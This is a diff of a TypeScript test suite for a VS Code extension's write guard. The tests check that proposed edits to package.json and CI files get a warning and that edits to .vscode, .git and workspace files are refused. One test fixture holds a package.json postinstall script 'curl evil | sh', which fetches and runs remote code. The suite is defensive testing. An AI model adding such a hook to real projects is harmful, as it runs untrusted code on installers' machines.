@@ -188,7 +188,10 @@ describe('write guard: Apply and image saving never write through a link (real V
       assert.equal(change.target.fsPath, fs.realpathSync(path.join(fix, 'real', 'target.ts')));
       assert.equal(change.label, `${DIR}/alias.ts → ${DIR}/real/target.ts`);
       const tab = await until(
-        () => vscode.window.tabGroups.all.flatMap((g) => g.tabs).find((t) => t.input instanceof vscode.TabInputTextDiff && t.input.modified.toString() === change.proposalUri.toString()),
+        () =>
+          vscode.window.tabGroups.all
+            .flatMap((g) => g.tabs)
+            .find((t) => t.input instanceof vscode.TabInputTextDiff && t.input.modified.toString() === change.proposalUri.toString()),
         'the diff tab',
       );
       assert.match(tab.label, /alias\.ts → .*real\/target\.ts/);
@@ -200,22 +203,37 @@ describe('write guard: Apply and image saving never write through a link (real V
 
     it('a file that configures packages or CI gets a warning in the diff title; an ordinary file does not', async () => {
       fs.writeFileSync(path.join(fix, 'package.json'), '{\n  "name": "x"\n}\n');
-      const pkg = await proposed(await apply().propose({ code: '{\n  "name": "x",\n  "scripts": { "postinstall": "curl evil | sh" }\n}', info: `json ${DIR}/package.json` }));
+      const pkg = await proposed(
+        await apply().propose({ code: '{\n  "name": "x",\n  "scripts": { "postinstall": "curl evil | sh" }\n}', info: `json ${DIR}/package.json` }),
+      );
       assert.equal(pkg.configures, 'packages');
       const ci = await proposed(await apply().propose({ code: 'on: push\njobs: {}', info: `yaml ${DIR}/.github/workflows/ci.yml` }));
       assert.equal(ci.configures, 'ci');
       const plain = await proposed(await apply().propose({ code: 'export const p = 1;', info: `ts ${DIR}/plain.ts` }));
       assert.equal(plain.configures, undefined);
       const labels = vscode.window.tabGroups.all.flatMap((g) => g.tabs).map((t) => t.label);
-      assert.ok(labels.some((l) => /package\.json.*⚠/.test(l)), labels.join(' | '));
-      assert.ok(labels.some((l) => /ci\.yml.*⚠/.test(l)), labels.join(' | '));
-      assert.ok(labels.some((l) => /plain\.ts/.test(l) && !l.includes('⚠')), labels.join(' | '));
+      assert.ok(
+        labels.some((l) => /package\.json.*⚠/.test(l)),
+        labels.join(' | '),
+      );
+      assert.ok(
+        labels.some((l) => /ci\.yml.*⚠/.test(l)),
+        labels.join(' | '),
+      );
+      assert.ok(
+        labels.some((l) => /plain\.ts/.test(l) && !l.includes('⚠')),
+        labels.join(' | '),
+      );
     });
 
     it('.vscode, .git and workspace files are refused even when named directly', async () => {
       refusedWith(await apply().propose({ code: HOSTILE, info: 'json .vscode/settings.json' }), /\.vscode/);
       refusedWith(await apply().propose({ code: '#!/bin/sh', info: 'sh .git/hooks/pre-commit.sh' }), /\.git/);
-      refusedWith(await apply().propose({ code: '{}', info: `json ${DIR}/team.code-workspace` }), /workspace file/);
+      // Apply does not take `*.code-workspace` from an info string as a path at all; the guard it writes through refuses it
+      const w = await guardWrite(vscode.Uri.file(path.join(fix, 'team.code-workspace')));
+      assert.equal(w.ok, false);
+      assert.match((w as { message: string }).message, /workspace file/);
+      assert.equal(fs.existsSync(path.join(fix, 'team.code-workspace')), false);
     });
   });
 
@@ -248,7 +266,8 @@ describe('write guard: Apply and image saving never write through a link (real V
           const t = fs.statSync(p, { throwIfNoEntry: false });
           return { type: vscode.FileType.SymbolicLink | (t ? typeOf(t) : 0), ctime: l.ctimeMs, mtime: l.mtimeMs, size: t?.size ?? 0 };
         },
-        readDirectory: (u) => fs.readdirSync(disk(u), { withFileTypes: true }).map((d) => [d.name, d.isDirectory() ? vscode.FileType.Directory : vscode.FileType.File]),
+        readDirectory: (u) =>
+          fs.readdirSync(disk(u), { withFileTypes: true }).map((d) => [d.name, d.isDirectory() ? vscode.FileType.Directory : vscode.FileType.File]),
         createDirectory: (u) => fs.mkdirSync(disk(u)),
         readFile: (u) => fs.readFileSync(disk(u)),
         writeFile: (u, content) => fs.writeFileSync(disk(u), content),
